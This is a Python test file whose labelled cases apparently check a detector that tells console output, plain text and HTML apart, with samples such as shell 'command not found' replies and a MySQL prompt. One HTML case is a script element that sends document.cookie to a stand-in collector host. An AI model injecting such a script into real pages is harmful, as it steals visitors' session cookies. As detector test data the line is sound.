"""Detection fixes of session 69 read off round 390 (a Korean data blog, a Japanese developer's
Qiita articles, a Japanese training course's answers on MySQL): root's command the shell could
not find, MySQL's programs at its docs' `shell> ` prompt, a script element holding a URL, and a
start-up banner drawn in strokes."""

from detect_cases import detection_test

BANNER = " _   _ ___ _\n| | | |_ _| |\n| |_| || || |\n|  _  || || |___\n|_| |_|___|_____|\n"

CASES = [
    # root's command, and the shell's answer naming it
    ("console", "# crond\nbash: crond: command not found\n"),
    ("console", "# crond\nsh: 1: crond: not found\n"),
    # as before: a heading over a sentence
    ("text", "# Heading\nSome words under it\n"),
    # MySQL's programs at the prompt its documentation prints
    ("console", "shell> mysqlbinlog [options] log_file ...\n"),
    # a script element holding a URL, no space in it
    ("html", "<script>location='https://collector.example/?c='.concat(document.cookie)</script>\n"),
    # as before: a URL's parts named
    ("text", "<scheme>://<user>@<host>:<port>/<path>\n"),
    # a start-up banner drawn in strokes, over the program's log
    ("text", "Hilo v0.9\n" + BANNER + "\nlistening on port 8000\n"),
]

test_detection = detection_test(CASES)
